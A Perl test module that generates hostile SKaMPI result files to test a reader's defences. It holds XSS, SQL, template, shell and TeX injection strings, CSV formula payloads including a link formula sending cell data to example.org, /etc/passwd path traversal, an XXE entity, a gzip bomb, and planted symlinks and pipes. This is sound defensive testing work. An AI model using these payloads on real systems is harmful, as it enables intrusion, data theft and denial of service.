package SKaMPI::Hostile;

# Result files that an attacker might send, one table for all that reads them: texts that do harm where they are not
# taken as texts, in all places of a run; bytes that are no run; files that take all the time and memory of a reader;
# what is no file where one is expected.
use v5.36;

use Compress::Zlib  ();
use Cwd             qw(getcwd);
use Encode          qw(encode);
use Exporter        qw(import);
use File::Basename  qw(dirname);
use File::Path      qw(make_path);
use POSIX           qw(mkfifo);
use SKaMPI::Results qw(suite_head);
use SKaMPI::Test    qw(write_file);

our @EXPORT_OK =
  qw(foreign_parts hostile_files hostile_run hostile_text kinds_of_text plant $MARK @PLANTED %TEXTS);

# A file that a successful attack would create.
our $MARK = '/tmp/mark-of-the-attack';

# Texts that do harm where they are not taken as texts.
our %TEXTS = (
    'script'                 => '<script>window.attacked=1</script>',
    'image'                  => '<img src=x onerror=window.attacked=1>',
    'svg'                    => '<svg onload=window.attacked=1><title>x</title></svg>',
    'end of a script'        => '</script><script>window.attacked=1</script>',
    'end of an attribute'    => q{" onmouseover="window.attacked=1" x="},
    'end of another'         => q{' autofocus onfocus='window.attacked=1},
    'end of a text area'     => '</textarea></title></style><script>window.attacked=1</script>',
    'comment'                => '--><script>window.attacked=1</script><!--',
    'address'                => 'javascript:window.attacked=1',
    'template'               => "<%= `touch $MARK` %>{{7*7}}\${7*7}",
    'lines of a template'    => "% `touch $MARK`; <% system 'touch $MARK' %>",
    'SQL'                    => q{'; DROP TABLE run; --},
    'SQL of a number'        => q{1 OR 1=1; DELETE FROM run WHERE '1'='1},
    'wildcards'              => q{%_!\\'"},
    'TeX'                    => '\input{/etc/passwd}\write18{touch ' . $MARK . '}\end{document}',
    'TeX with carets'        => '^^5cinput{/etc/passwd}$\relax',
    'gnuplot'                => q{"; system("touch } . $MARK . q{"); set output "x},
    'gnuplot and backquotes' => "`touch $MARK` \@{touch} \$(touch $MARK)",
    'shell'                  => "; touch $MARK | touch $MARK && touch $MARK > $MARK",
    'formula'                => q{=cmd|' /C calc'!A0},
    'formula with a link'    => '=HYPERLINK("http://example.org/"&A1,"x")',
    'formula after a tab'    => "\t=1+1",
    'formula with plus'      => '+1+cmd|x',
    'formula with at'        => '@SUM(1+1)',
    'header line'            => "a\rSet-Cookie: x=1\r\rbody",
    'path'                   => '../../../../etc/passwd',
    'absolute path'          => '/etc/passwd',
    'Windows path'           => '..\\..\\boot.ini%00.out',
    'encoded path'           => '%2e%2e%2fetc%2fpasswd%00',
    'terminal'               => "\e]0;attacked\a\e[31m\x{9b}2J",
    'direction'              => "\x{202e}abc\x{2066}\x{200b}\x{feff}",
    'NUL'                    => "before\0after",
    'separators'             => "a\x{2028}b\x{2029}c\x{85}d",
    'braces'                 => '}}}} \end{document}{{{{\\\\',
    'characters of TeX'      => '100 % # ~ ^ & _ $ { } < > | \\ " \' `',
    'output of TeX'          => "\\openout5=$MARK\\write5{x}",
    'a template of ours'     => '[% INCLUDE /etc/passwd %]',
    'an option'              => '-shell-escape',
    'a pipe'                 => "| touch $MARK",
    'Latin letters'          => "K\x{f6}nig, Stra\x{df}e, \x{c5}ngstr\x{f6}m, \x{e9}t\x{e9}",
    'many'                   => 'A' x 5000,
    'many accents'           => 'Z' . "\x{0301}" x 500,
    'beyond 16 bits'         => "\x{1f4a9}\x{10ffff}",
    'JSON'                   => '","state":"published","x":"\\u0000',
    'XML'                    => ']]><!ENTITY x SYSTEM "file:///etc/passwd">&x;',
    'format'                 => '%s%s%n%p{0}{1}',
    'Perl'                   => '@{[system "touch ' . $MARK . '"]}${\ `touch ' . $MARK . '`}',
);

# Facts of the header, each with another text.
my @FACTS =
  qw(MACHINE MPILIBRARY PROCESSESPERHOST BINDING NODE NETWORK USER DATE SKAMPIVERSION OWN);

# The database's modules are loaded only where they are needed.
sub generated_run (%with) {
    require SKaMPI::DatabaseTest;
    return SKaMPI::DatabaseTest::generated_run(%with);
}

# The reader takes only labels that may be names of files.
sub _may_be_label ($text) {
    return $text !~ m{[/\0-\x{c}\x{e}-\x{1f}\x{7f}-\x{9f}]}
      && length encode( 'UTF-8', $text ) < 200;
}

sub _labelled ($text) {
    my $label = encode( 'UTF-8', $text =~ tr/\r\n/  /r );
    return generated_run() =~ s/p2p_Suite01/p2p_$label/gr;
}

# The suite with texts as label, note, extra value, and pattern and argument.
sub _attacked ( $suite, $label, $note, $extra, $pattern ) {
    state $number = 0;
    $label   = _may_be_label($label) ? $label =~ tr/\r\n/  /r : 'plain' . ++$number;
    $pattern = substr $pattern =~ tr/[]()<>\r\n/        /r, 0, 100;
    my $word  = $extra =~ tr{ \r\n}{__}r;
    my $notes = join q{}, map { "#\@$_ $note\n" } qw(PARTNER NOTE TOPOLOGY OWN);
    my %new   = map { $_->[0] => encode( 'UTF-8', $_->[1] ) } [ label => "p2p_$label" ],
      [ extra => "#\@EXTRA x [$extra] $extra\n$notes#\@TIMEOF $note\n" ], [ stop => "stop=$word" ],
      [ pattern => "$pattern varied over $pattern [$pattern]" ],
      [ args    => "<args> $pattern [$pattern]" ];
    return $suite =~ s/p2p_Suite01/$new{label}/gr =~
      s/^#\@(?:EXTRA|TIMEOF) .*\n/delete $new{extra} \/\/ q{}/gemr =~
      s/stop=accuracy/$new{stop}/gr =~
      s/Point-to-Point varied over the message length \[bytes\]/$new{pattern}/r =~
      s/<args> message length \[bytes\]/$new{args}/r;
}

# A run whose header and suites have all texts: as warnings, as label, notes, extra value, pattern and argument of a
# suite each, and, from that with the name FIRST, which the machine has, as facts.
sub hostile_run ($first) {
    my @names   = sort keys %TEXTS;
    my @texts   = @TEXTS{@names};
    my ($shift) = grep { $names[$_] eq $first } keys @names;
    my $at      = sub ($i) { return $texts[ $i % @texts ] };
    my %facts   = (
        ( map { ( "WARNING $_:" => $texts[$_] ) } keys @texts ),
        ( map { ( $FACTS[$_]    => $at->( $shift + $_ ) ) } keys @FACTS )
    );
    my $run     = generated_run( points => 3, facts => \%facts, notes => { EXTRA => 'EXTRAS' } );
    my ($suite) = $run =~ /(^#-----\n.*?^#eol\n)/ms;
    my @suites  = map {
        _attacked( $suite, map { $at->($_) } $_ .. $_ + 3 )
    } keys @texts;
    return $run =~ s/\Q$suite\E/join q{}, @suites/er;
}

# Bytes that are not a sound file: name, bytes, and a part of the message.
sub _no_runs () {
    my $good   = generated_run();
    my $packed = Compress::Zlib::memGzip($good);
    my $bomb   = Compress::Zlib::memGzip( "\0" x 60_000_000 );
    my @cases  = (
        [ 'nothing',    q{},                                      qr/not a result file/ ],
        [ 'one byte',   "\0",                                     qr/not a result file/ ],
        [ 'NUL bytes',  "\0" x 100_000,                           qr/not a result file/ ],
        [ 'all bytes',  join( q{}, map { chr } 0 .. 255 ) x 20,   qr/:[0-9]+: / ],
        [ 'a program',  "\x7fELF" . "\1" x 4000,                  qr/not a result file/ ],
        [ 'a page',     '<html><script>attack()</script></html>', qr/not a result file/ ],
        [ 'a ZIP file', "PK\3\4" . "\0" x 400,                    qr/not a result file/ ],
        [ 'a bomb',     $bomb,                                    qr/more than 50000000 bytes/ ],
        [ 'a bomb in a bomb', Compress::Zlib::memGzip($bomb),     qr/not a result file/ ],
        [
            'half of a compressed file',
            substr( $packed, 0, length($packed) / 2 ),
            qr/not complete|damaged/
        ],
        [ 'a wrong checksum',        substr( $packed, 0, -8 ) . "\0" x 8, qr/damaged/ ],
        [ 'the first bytes of gzip', "\x1f\x8b",                          qr/damaged/ ],
        [ 'a compressed file twice', Compress::Zlib::memGzip($packed),    qr/not a result file/ ],
        [ 'too large',               "#x\n" x 17_000_000, qr/more than 50000000 bytes/ ],
        [
            'a million suites',
            '/*@inp2p_a.ski*/' . "\n/*\@inp2p_a.ski*/" x 1_000_000,
            qr/more than 2000 suites/
        ],
        [ 'too many rows', suite_head('p2p_a') . "1 1 1 1\n" x 200_001, qr/more than 200000 rows/ ],
        [
            'a line of 2 MB', '#@MACHINE ' . 'x' x 2_000_000 . "\n$good",
            qr/line longer than 1 MiB/
        ],
        [ 'two suites of a name', $good =~ s/p2p_Suite02/p2p_Suite01/gr, qr/duplicate suite/ ],
        [ 'no trailer',           $good =~ s/#skampi finished.*//sr,     qr/not finished/ ],
        [
            'a newer version',
            $good =~ s/SKAMPIVERSION 4/SKAMPIVERSION 99/r,
            qr/newer than this program/
        ],
        [ 'a time below 0',     $good =~ s/^8 /8 -/mr,        qr/the time is below 0/ ],
        [ 'a time of 1e300 us', $good =~ s/^8 \S+/8 1e300/mr, qr/a time is above 1e[+]15 us/ ],
        [
            'many processes',
            $good =~ s/PROCESSES 2/PROCESSES 99999999999999/r,
            qr/not a whole number from 1 to/
        ],
        [ 'words instead of numbers', $good =~ s/^8 .*/8 x y z/mr,  qr/:[0-9]+: / ],
        [ 'a script instead of rows', $good =~ s/^8 .*/<script>/mr, qr/:[0-9]+: / ],
        [ 'no rows',        $good =~ s/^[0-9].*\n//mgr, qr/no suite has a row|no column/ ],
        [ 'only a trailer', "#skampi finished.\n", qr/not a result file/ ],
    );
    push @cases,
      map { [ "cut after $_ %", substr( $good, 0, $_ * length($good) / 100 ), qr/:[0-9]+: / ] } 5,
      15, 20, 50, 99;
    push @cases,
      map { [ "$_ as label", _labelled( $TEXTS{$_} ), qr/not a valid file name/ ] } 'NUL',
      'absolute path', 'many', 'separators', 'terminal';
    return map { { name => $_->[0], bytes => $_->[1], match => $_->[2] } } @cases;
}

sub _odd_runs () {
    my $good  = generated_run();
    my %cases = (
        'carriage returns'  => $good =~ s/\n/\r\n/gr,
        'a byte order mark' => "\xef\xbb\xbf$good",
        'invalid UTF-8'     => $good =~ s/Some machine/M\xfcller \xff\xfe \xc0\xaf \xed\xa0\x80/r,
        'no numbers'        => $good =~ s/^8 .*/8 nan nan 0/mr,
        'infinite'          => $good =~ s/^8 .*/8 inf inf 1/mr,
        'no date'           => $good =~ s/#\@DATE.*\n//r,
        'a date of the future' => $good =~ s/2026/9999/r,
        'unsorted arguments'   => $good =~ s/^8 /1000000000000000000000 /mr,
        'an argument below 0'  => $good =~ s/^8 /-8 /mr,
        'two equal arguments'  => $good =~ s/^8 /12 /mr,
        'a compressed file'    => Compress::Zlib::memGzip($good),
        'SKaMPI 5' => qq{# SKaMPI Version 5\e[31m\nbegin result "=1+1"\n<b>= 1 b= 2 4 1.0 nan 8\n}
          . qq{b= 1 4 1.0 0.1 8 ---\nb= 8 x= 1e9 4 1e300 0.1 8 $TEXTS{script}\nend result "\0"\n},
    );
    return map { { name => $_, bytes => $cases{$_} } } sort keys %cases;
}

# Returns the files that are no run, which a database refuses, and odd runs: name, bytes and, of the refused, match (the
# message).
sub hostile_files () {
    return ( _no_runs(), _odd_runs() );
}

# Parts of a page that its author did not write. It has this number of scripts, and styles or not.
sub foreign_parts ( $page, $scripts, $has_styles = 0 ) {
    my @wrong;
    push @wrong, 'a script' if $page->find('script')->size != $scripts;
    push @wrong, 'an action'
      if grep { /\Aon/i } map { keys %{ $_->attr } } $page->find(q{*})->each;
    push @wrong, map { "address $_" } grep { !m{\A(?:[/#]|data:,\z)} }
      map {
        grep { defined }
          @{ $_->attr }{qw(href src action)}
      } $page->find('[href], [src], [action]')->each;
    push @wrong, 'styles'  if !$has_styles && $page->find('style, [style]')->size;
    push @wrong, 'a frame' if $page->find('iframe, object, embed, base')->size;
    return @wrong;
}

my $OPEN   = suite_head('p2p_open');
my @VARIED = ( ' varied over the ' x 50 . q{[}, ' varied over the x [' x 40 );

# The start of a text, and the part that follows again and again: a text, or a function of its number.
my %KINDS = (
    'fields'               => [ q{},              "#\@X y\n" ],
    'machines'             => [ q{},              "#\@MACHINE y\n" ],
    'warnings'             => [ q{},              "#\@WARNING \e[31my\n" ],
    'a long warning'       => [ '#@WARNING ',     "\xe4\xb8\xad" ],
    'a text of many lines' => [ "#\@MACHINE a\n", "# b\n" ],
    'notes'                => [ $OPEN,            sub ($i) { "#\@N$i y\n" } ],
    'header lines'         => [ $OPEN,            "#x\n" ],
    'broken header lines'  => [ $OPEN,            "word\n" ],
    'suites'               => [ q{},              sub ($i) { "#/*\@inp2p_a$i.ski*/\n1 1 1\n" } ],
    'suites of all kinds'  => [ q{}, sub ($i) { "#/*\@inq${i}_a.ski*/\n#\@TIMEOF x$i\n1 1 1\n" } ],
    'suites of the same name' => [ q{}, "#/*\@inp2p_a.ski*/\n" ],
    'complete suites'         => [
        q{}, sub ($i) { suite_head("p2p_s$i") . "4 1 .1 8\n8 2 .1 8\n9 3 .1 8\n16 4 .1 8\n#eol\n" }
    ],
    'patterns' =>
      [ q{}, sub ($i) { "#/*\@inp2p_a$i.ski*/\n#Pattern:$VARIED[0]\n#Pattern:$VARIED[1]\n" } ],
    'numbers' => [ q{}, sub ($i) { "#/*\@inp2p_a$i.ski*/\n#default values: " . 1 x 1000 . "\n" } ],
    'formats' => [
        q{},
        sub ($i) { "#/*\@inp2p_$i.ski*/\n#Format: <args>" . ' a [b] (' x 150 . "<results>\n1 1\n" }
    ],
    'rows'          => [ $OPEN, "1 1 1 1\n" ],
    'rows of words' => [ $OPEN, sub ($i) { "$i 1 .1 8 # " . 'a= b= c= d= ' x 5 . "\n" } ],
    'wrong rows'    => [ $OPEN, "1 x\n" ],
    'columns'       => [ $OPEN, '1 1 1 1' . ' 1' x 1000 . "\n" ],
    'a long row'    => [ "${OPEN}1 1 1 1", ' 1' ],
    'empty lines'   => [ q{},              "\n" ],
    'NUL bytes'     => [ q{},              "\0\n" ],
    'no line end'   => [ q{},              "\0" ],
    'no UTF-8'      => [ q{},              "#\@X \xff\n" ],
    'escapes'       => [ q{},              "\e[31m\n" ],
);

sub kinds_of_text () {
    my @kinds = sort keys %KINDS;
    return @kinds;
}

# Returns a number of bytes of a kind, after a small suite without faults.
sub hostile_text ( $kind, $bytes ) {
    my ( $start, $again ) = @{ $KINDS{$kind} };
    my $text = suite_head('p2p_good') . "4 1 0.1 8\n8 2 0.1 8\n#eol\n$start";
    my $i    = 0;
    if ( ref $again ) { $text .= $again->( $i++ ) while length $text < $bytes }
    else              { $text .= $again x ( $bytes / length $again ) }
    return "$text\n#skampi finished.\n";
}

my %PLANT = (
    'a link'                => sub ( $at, $place ) { symlink "$place/victim",  $at },
    'a dangling link'       => sub ( $at, $place ) { symlink "$place/nowhere", $at },
    'a link to a directory' => sub ( $at, $place ) { symlink "$place/home",    $at },
    'a device'              => sub ( $at, $place ) { symlink '/dev/zero',      $at },
    'a pipe'                => sub ( $at, $place ) { mkfifo $at,               oct 600 },
    'a directory'   => sub ( $at, $place ) { mkdir $at and write_file( "$at/mine", 'mine' ) },
    'no permission' => sub ( $at, $place ) { write_file( $at, "x\n" ); chmod 0, $at },
    'garbage'       =>
      sub ( $at, $place ) { write_file( $at, "x\0\xff\e[31m" ); truncate $at, 100 * 1024 * 1024 },
);
our @PLANTED = sort keys %PLANT;

# Puts a thing of a kind at a path, whose directory is made. Links lead to victim, home and nowhere in PLACE.
sub plant ( $kind, $path, $place = getcwd ) {
    make_path( dirname($path) );
    unlink $path;
    $PLANT{$kind}->( $path, $place ) or die "$path: $!\n";
    return;
}

1;
